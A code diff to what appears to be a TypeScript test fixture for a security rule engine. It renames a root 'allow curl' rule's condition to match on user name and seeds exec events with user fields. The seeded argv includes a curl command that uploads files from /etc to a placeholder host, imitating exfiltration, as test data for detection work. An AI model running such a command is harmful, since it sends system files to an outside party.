@@ -35,7 +35,7 @@ rules:
   - id: root-curl-is-fine
     on: exec
     action: allow
-    when: { process.uid: 0 }
+    when: { process.user: root }
 `;
 
 /** The fields the seeding changes in a fixture event. */
@@ -43,7 +43,7 @@ type Raw = {
   id: string;
   time: string;
   host: { id: string; name: string };
-  process: { pid: number; uid: number; exe: string; argv: string[] };
+  process: { pid: number; uid: number; user?: string; exe: string; argv: string[] };
   file: { path: string };
 };
 
@@ -83,6 +83,7 @@ function seeded() {
         write(host, "exec", (e) => {
           e.process.pid = 5000 + i;
           e.process.uid = i % 4 === 0 ? 0 : 1000;
+          e.process.user = i % 4 === 0 ? "root" : "alice";
           e.process.argv =
             i % 3 === 0 ? ["curl", "--upload-file", `/etc/f${i % 5}`, "https://x"] : ["curl", "-s"];
         });
